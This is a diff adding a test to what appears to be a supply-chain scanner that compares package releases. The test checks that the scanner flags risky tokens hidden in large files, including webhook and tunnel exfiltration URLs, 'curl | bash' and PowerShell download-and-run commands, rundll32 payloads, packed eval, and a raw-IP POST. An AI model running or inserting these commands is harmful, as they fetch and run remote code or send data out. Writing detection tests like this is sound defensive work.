@@ -49,6 +49,18 @@ describe('release-diff', () => {
     expect(riskyCapability(facts)).toBe(false);
   });
 
+  it('asks for the previous tarball for each risky token, in any case, wherever it sits in a file', () => {
+    const risky = (code: string) => riskyCapability(factsFromFixture(fixture([['1.0.0', { 'index.js': '' }], ['1.0.1', { 'index.js': code }]])));
+    const filler = 'module.exports = function add(a, b) { return a + b; };\n'.repeat(200);
+    const tokens = [
+      "send('https://Discord.com/api/webhooks/1/x')", 'const u = "eo1234567890ab.m.pipedream.net"', "get('https://PASTEBIN.com/raw/x')", "'https://abc.ngrok-free.app'",
+      "exec('curl -s https://x.example/i | bash')", "exec('IWR -Uri https://x.example/p.ps1')", "exec('x | iex')", "exec('powershell -w hidden -c x')",
+      "exec('rundll32 payload.dll,Run')", 'while (!![]) { step(); }', 'eval(function(p,a,c,k,e,d){return p})', 'window.fetch = hooked;', "data = '0x095ea7b3' + spender;",
+    ];
+    for (const token of tokens) expect(risky(`${filler}${token}\n${filler}`), token).toBe(true);
+    expect(risky(filler)).toBe(false);
+  });
+
   it('asks for the previous tarball for a raw IP destination, but not for a dev server on a local address', () => {
     const risky = (code: string) => riskyCapability(factsFromFixture(fixture([['1.0.0', { 'index.js': '' }], ['1.0.1', { 'index.js': code }]])));
     expect(risky("fetch('http://45.61.136.20/collect', { method: 'POST' });")).toBe(true);
